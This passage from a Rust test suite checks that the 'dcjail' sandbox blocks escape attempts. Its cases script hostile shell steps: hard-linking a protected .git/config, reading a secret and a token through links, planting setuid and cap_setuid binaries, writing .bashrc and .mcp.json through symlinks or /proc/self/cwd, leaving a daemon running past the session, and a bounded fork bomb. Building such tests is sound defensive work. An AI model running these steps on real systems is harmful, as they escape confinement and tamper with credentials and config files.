            check: |c, _, o| {
                // The root is writable (its refs took the push's stand-in).
                if !c.root.join("bare.git/refs/heads/x").exists()
                    && String::from_utf8_lossy(&o.stdout).contains("DCJAIL-CASE-RAN")
                {
                    return Err("the bare repository was not writable at all".into());
                }
                fake_repo_unchanged(&c.root.join("bare.git"), "post-receive")
            },
        },
        Case {
            group: "protected",
            name: "make a repository inside the workspace's (mkdir, a .git file, mv from /tmp)",
            protect: true,
            net: "none",
            setup: |c, env| {
                // SAFETY: geteuid never fails.
                let uid = unsafe { libc::geteuid() };
                let d = scratch::fresh_in_tmp(&format!("escape-made-{}", c.tag), uid);
                env.vars.push(("MADE".into(), d.display().to_string()));
                env.dirs.push(d);
            },
            script: |_, env| {
                let t = env.var("MADE");
                format!(
                    "mkdir -p a b && mkdir a/.git; echo 'gitdir: ../x' > b/.git; mkdir -p '{t}/r/.git' && mv '{t}/r' c"
                )
            },
            next: None,
            check: |c, _, _| {
                for n in ["a/.git", "b/.git", "c/.git"] {
                    absent(&c.ws.join(n))?;
                }
                Ok(())
            },
        },
        Case {
            group: "broker",
            name: "a program that forbade itself to make files has them made for it",
            protect: true,
            net: "none",
            setup: no_setup,
            // The control is the same program without its own domain: there
            // it makes every name, so the check can see them.
            script: |c, _| {
                let prog = concat!(
                    env!("CARGO_MANIFEST_DIR"),
                    "/tests/fixtures/selflock/selflock.py"
                );
                let control = if c.tag.contains("-control-") {
                    "--no-restrict"
                } else {
                    ""
                };
                format!("touch seed; python3 {prog} {control} \"$PWD\"")
            },
            next: None,
            check: |c, _, _| {
                for n in [
                    "made-file",
                    "made-dir",
                    "made-link",
                    "made-fifo",
                    "made-hard",
                ] {
                    absent(&c.ws.join(n))?;
                }
                Ok(())
            },
        },
        Case {
            group: "broker",
            name: "a nested dcjail (read-only by default) makes files",
            protect: true,
            net: "none",
            setup: no_setup,
            // The control runs the same lines without the inner dcjail.
            script: |c, _| {
                let inner = if c.tag.contains("-control-") {
                    String::new()
                } else {
                    format!("env -u DCJAIL_POLICY {} -- ", bin())
                };
                format!("{inner}sh -c 'touch nested-file; mkdir nested-dir; ln -s x nested-link'")
            },
            next: None,
            check: |c, _, _| {
                for n in ["nested-file", "nested-dir", "nested-link"] {
                    absent(&c.ws.join(n))?;
                }
                Ok(())
            },
        },
        Case {
            group: "protected",
            name: "hard link a protected file",
            protect: true,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| "ln .git/config cfg && echo '[x]' >> cfg".to_string(),
            check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n"),
        },
        // bwrap mounts each writable root apart, and its broker makes a
        // link between two of them through the host's mount: only for a
        // file the command could write (tests/hard_links.rs).
        Case {
            group: "protected",
            name: "hard link a protected file into another writable root",
            protect: true,
            net: "none",
            next: None,
            setup: other_root,
            script: |_, _| "ln .git/config ../other/cfg && echo '[x]' >> ../other/cfg".to_string(),
            check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n"),
        },
        Case {
            group: "read",
            name: "hard link it into another writable root, read it there (in the workspace)",
            protect: false,
            net: "none",
            next: None,
            setup: other_root,
            script: |_, _| {
                "ln private/secret ../other/h; cat ../other/h; ln token ../other/h2; cat ../other/h2"
                    .to_string()
            },
            check: secret_not_shown,
        },
        Case {
            group: "write",
            name: "hard link a file outside into another writable root",
            protect: false,
            net: "none",
            next: None,
            setup: other_root,
            script: |c, _| {
                format!(
                    "ln '{}/existing' ../other/hl; echo x >> ../other/hl",
                    c.outside.display()
                )
            },
            check: outside_untouched,
        },
        Case {
            group: "protected",
            name: "write a protected file by a second name made before the run",
            protect: true,
            net: "none",
            next: None,
            setup: |c, _| {
                std::fs::create_dir_all(c.ws.join("src/deep")).unwrap();
                std::fs::hard_link(c.ws.join(".git/config"), c.ws.join("src/deep/cfg")).unwrap();
            },
            script: |_, _| "echo '[x]' >> src/deep/cfg; truncate -s 0 src/deep/cfg".to_string(),
            check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n"),
        },
        Case {
            group: "protected",
            name: "bind a unix socket at a missing .bashrc",
            protect: true,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\".bashrc\")'"
                    .to_string()
            },
            check: |c, _, _| absent(&c.ws.join(".bashrc")),
        },
        // ---- metadata and setuid
        Case {
            group: "metadata",
            name: "chmod, touch, xattr of a file outside",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                let f = c.outside.join("existing");
                format!(
                    "chmod 600 '{f}'; touch -m -d @1000000000 '{f}'; setfattr -n user.x -v 1 '{f}'",
                    f = f.display()
                )
            },
            check: |c, _, _| {
                use std::os::unix::fs::MetadataExt;
                let m = std::fs::metadata(c.outside.join("existing")).unwrap();
                let xattr = Command::new("getfattr")
                    .args(["--only-values", "-n", "user.x"])
                    .arg(c.outside.join("existing"))
                    .output()
                    .map(|o| o.status.success())
                    .unwrap_or(false);
                if m.mode() & 0o777 != 0o644 || m.mtime() == 1_000_000_000 || xattr {
                    Err(format!(
                        "mode {:o}, mtime {}, xattr {xattr}",
                        m.mode() & 0o777,
                        m.mtime()
                    ))
                } else {
                    Ok(())
                }
            },
        },
        Case {
            group: "metadata",
            name: "a setuid file left in the workspace",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "cp /usr/bin/id id2 && chmod 4755 id2; install -m 2755 /usr/bin/id id3".to_string()
            },
            check: |c, _, _| {
                use std::os::unix::fs::MetadataExt;
                for n in ["id2", "id3"] {
                    if let Ok(m) = std::fs::metadata(c.ws.join(n)) {
                        if m.mode() & 0o6000 != 0 {
                            return Err(format!("{n} has mode {:o}", m.mode()));
                        }
                    }
                }
                Ok(())
            },
        },
        Case {
            group: "metadata",
            name: "a file capability (`cap_setuid`) set on a copy of `id` in the workspace",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "cp /usr/bin/id c1 && python3 -c 'import os; os.setxattr(\"c1\", \"security.capability\", bytes.fromhex(\"0100000280000000000000000000000000000000\"))'".to_string()
            },
            check: |c, _, _| {
                use std::os::unix::ffi::OsStrExt;
                let p = std::ffi::CString::new(c.ws.join("c1").as_os_str().as_bytes()).unwrap();
                let mut buf = [0u8; 64];
                // SAFETY: NUL-terminated path and name, a buffer of its length.
                let n = unsafe {
                    libc::lgetxattr(
                        p.as_ptr(),
                        c"security.capability".as_ptr(),
                        buf.as_mut_ptr().cast(),
                        buf.len(),
                    )
                };
                if n > 0 {
                    Err("c1 carries security.capability".to_string())
                } else {
                    Ok(())
                }
            },
        },
        Case {
            group: "protected",
            name: "create a missing .bashrc through a symlink or /proc/self/cwd",
            protect: true,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "ln -s .bashrc s; echo x > s; echo x > /proc/self/cwd/.mcp.json".to_string()
            },
            check: |c, _, _| {
                absent(&c.ws.join(".bashrc"))?;
                absent(&c.ws.join(".mcp.json"))
            },
        },
        // ---- processes
        Case {
            group: "process",
            name: "background daemon outliving dcjail",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |_, _| {
                "setsid sh -c 'sleep 2; echo alive > daemon-marker' >/dev/null 2>&1 < /dev/null &"
                    .to_string()
            },
            check: |c, _, _| {
                std::thread::sleep(Duration::from_secs(3));
                absent(&c.ws.join("daemon-marker"))
            },
        },
        Case {
            group: "process",
            name: "fork bomb (bounded) with a timeout",
            protect: false,
            net: "none",
            next: None,
            setup: no_setup,
            script: |c, _| {
                format!("i=0; while [ $i -lt 60 ]; do setsid sh -c 'sleep 300; :' bomb-{} >/dev/null 2>&1 </dev/null & i=$((i+1)); done; sleep 300", c.tag)
            },
            check: |c, _, _| {
                std::thread::sleep(Duration::from_millis(300));
                let o = Command::new("pgrep")
                    .arg("-f")
                    .arg(format!("bomb-{}", c.tag))
                    .output()
                    .unwrap();
                if o.stdout.is_empty() {
                    Ok(())
                } else {
                    // Each `sh` is a session and group leader (setsid): its
                    // group holds the `sleep 300` it started, which carries
                    // no tag of its own and would otherwise be orphaned.
                    for pid in String::from_utf8_lossy(&o.stdout)
                        .split_whitespace()
                        .filter_map(|p| p.parse::<i32>().ok())
                    {
                        // SAFETY: plain kill of a process group and a process.
                        unsafe {
                            libc::kill(-pid, libc::SIGKILL);
                            libc::kill(pid, libc::SIGKILL);
                        }
                    }
                    Err(format!(
                        "{} processes left",
                        String::from_utf8_lossy(&o.stdout).lines().count()
                    ))
                }
            },
        },
    ]
}

/// How one run went.
#[derive(Debug, PartialEq)]
enum Outcome {
    Blocked,
    Refused,
    Escaped(String),
}

fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
    let ctx = Ctx::new(&format!("c{idx}"), backend.unwrap_or("control"));
    let mut env = Env::default();
    (case.setup)(&ctx, &mut env);
    // The marker proves the command really ran: a sandbox that failed to
    // start would otherwise "block" every case.
    let script = format!("{}\necho DCJAIL-CASE-RAN", (case.script)(&ctx, &env));
    let policy = ctx.policy(
        case.protect,
        case.net,
        case.name.contains("deny_write"),
        case.name.contains("in the workspace"),
    );
    let mut args: Vec<String> = vec!["--policy".into(), policy.display().to_string()];
    if let Some(b) = backend {
        args.extend(["--backend".into(), b.to_string()]);
    }
    let extra_root = env.var("ALLOW_WRITE");
    if !extra_root.is_empty() {
        args.extend(["--allow-write".into(), extra_root]);
    }
    if case.group == "process" && case.name.contains("timeout") {
        args.extend(["--timeout".into(), "2".into()]);
    }
    // fd 5: the secret, opened outside; stdin: a pty for TIOCSTI.
    let outer = format!(
        "exec 5<'{}'; exec \"$@\"",
        ctx.private.join("secret").display()
    );
    let run = |script: &str| -> Output {
        let mut cmd = Command::new("sh");
        cmd.arg("-c").arg(&outer).arg("sh");
        if case.name.contains("unprivileged user") {
            cmd.args([
                "setpriv",
                "--reuid",
                "65534",
                "--regid",
                "65534",
                "--clear-groups",
            ]);
        }
        match backend {
            Some(_) => {
                cmd.arg(bin()).args(&args).args(["--", "sh", "-c", script]);
            }
            // The control runs the same script with no dcjail at all, under a
            // plain timeout(1) that kills only the shell, as a careless launcher would.
            None => {
                cmd.args(["timeout", "-s", "KILL", "3", "sh", "-c", script]);
            }
        }
        cmd.current_dir(&ctx.ws)
            .env("HOME", ctx.root.join("home"))
            .env_remove("DCJAIL_POLICY")
            .env_remove("TMPDIR");
        let pty = if case.name.starts_with("TIOCSTI") {
            Some(open_pty())
        } else {
            None
        };
        match &pty {
            Some((_, slave)) => {
                cmd.stdin(Stdio::from(slave.try_clone().unwrap()));
            }
            None => {
                cmd.stdin(Stdio::null());
            }
        }
        let mut o = cmd.output().unwrap();
        if let Some((master, slave)) = pty {
            // Whatever TIOCSTI queued is now readable as input on the tty.
            let mut queued = read_pending(&slave);
            queued.extend(read_pending(&master));
            o.stdout.extend(queued);
        }
        o
    };
    let mut o = run(&script);
    if let Some(next) = case.next {
        // The second run, same policy, reads what the first left behind;
        // both must have run to their end.
        let ran = String::from_utf8_lossy(&o.stdout).contains("DCJAIL-CASE-RAN");
        if ran || backend.is_none() {
            o = run(&format!("{}\necho DCJAIL-CASE-RAN", next(&ctx, &env)));
        }
    }
    let err = String::from_utf8_lossy(&o.stderr);
    if backend.is_some()
        && o.status.code() == Some(122)
        && err.starts_with("dcjail: sandbox-unavailable: ")
    {
        return Outcome::Refused;
    }
    let killed_by_timeout = case.name.contains("timeout");
    if backend.is_some()
        && !killed_by_timeout
        && !String::from_utf8_lossy(&o.stdout).contains("DCJAIL-CASE-RAN")
    {
        return Outcome::Escaped(format!(
            "the command did not run to its end (status {:?}, stderr {})",
            o.status.code(),
            err.trim()
        ));
    }
    match (case.check)(&ctx, &mut env, &o) {
        Ok(()) => Outcome::Blocked,
        Err(e) => Outcome::Escaped(format!(
            "{e} (status {:?}, stderr {})",
            o.status.code(),
            err.trim()
        )),
    }
}

fn open_pty() -> (std::fs::File, std::fs::File) {
    use std::os::fd::FromRawFd;
    let (mut m, mut s) = (0, 0);
    // SAFETY: openpty writes two fds into the given pointers.
    let r = unsafe {
        libc::openpty(
            &mut m,
            &mut s,
            std::ptr::null_mut(),
            std::ptr::null(),
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "openpty failed");
    // SAFETY: fresh fds we own.
    unsafe { (std::fs::File::from_raw_fd(m), std::fs::File::from_raw_fd(s)) }
}

fn read_pending(f: &std::fs::File) -> Vec<u8> {
    use std::os::fd::AsRawFd;
    let fd = f.as_raw_fd();
    // SAFETY: plain fcntl on an fd we own.
    unsafe {
        libc::fcntl(
            fd,
            libc::F_SETFL,
            libc::fcntl(fd, libc::F_GETFL) | libc::O_NONBLOCK,
        )
    };
    let mut out = Vec::new();
    let mut b = [0u8; 256];
    let mut f = f;
    while let Ok(n) = f.read(&mut b) {
        if n == 0 {
            break;
        }
        out.extend_from_slice(&b[..n]);
    }
    out
}

#[test]
fn no_case_escapes_any_backend_and_every_case_escapes_without_one() {
    let cases = cases();
    let mut table = String::from("| group | case | control (no sandbox) |");
    for b in BACKENDS {
        table.push_str(&format!(" {b} |"));
    }
    table.push_str("\n|---|---|---|");
    for _ in BACKENDS {
        table.push_str("---|");
    }
    table.push('\n');
    let mut failures = Vec::new();
    for (i, case) in cases.iter().enumerate() {
        let control = run_case(case, None, i);
        let control_cell = match &control {
            Outcome::Escaped(_) => "escapes".to_string(),
            other => {
                failures.push(format!(
                    "{} / {}: the control did not escape ({other:?}): the case cannot fail",
                    case.group, case.name
                ));
                "DID NOT ESCAPE".to_string()
            }
        };
        table.push_str(&format!(
            "| {} | {} | {} |",
            case.group, case.name, control_cell
        ));
        for b in BACKENDS {
            let out = run_case(case, Some(b), i);
            let cell = match &out {
                Outcome::Blocked => "blocked".to_string(),
                Outcome::Refused => "refused (122)".to_string(),
                Outcome::Escaped(e) => {
                    failures.push(format!(
                        "{} / {} under {b}: ESCAPED: {e}",
                        case.group, case.name
                    ));
                    "**ESCAPED**".to_string()
                }
            };
            // Refusing everything would pass trivially: landlock must enforce
            // every case it can express (all but write subtraction and
            // deny_read inside a writable root, which need bwrap's mounts).
            // The broker cases need protected paths, which landlock refuses.
            let landlock_must_run = case.group != "protected"
                && case.group != "broker"
                && !case.name.contains("deny_write")
                && !case.name.contains("in the workspace");
            if *b == "landlock" && landlock_must_run && out == Outcome::Refused {
                failures.push(format!(
                    "{} / {} under landlock: refused a case it can enforce",
                    case.group, case.name
                ));
            }
            if *b == "bwrap" && out == Outcome::Refused {
                failures.push(format!(
                    "{} / {} under bwrap: refused; bwrap must enforce every case",
                    case.group, case.name
                ));
            }
            table.push_str(&format!(" {cell} |"));
        }
        table.push('\n');
    }
    println!("\n{table}");
    let _ = std::fs::write(scratch::base().join("escape-table.md"), &table);
    assert!(failures.is_empty(), "{}\n\n{table}", failures.join("\n"));
}

// Keep the write import used on every platform.
#[allow(dead_code)]
fn _w(mut f: std::fs::File) {
    let _ = f.write_all(b"");
}
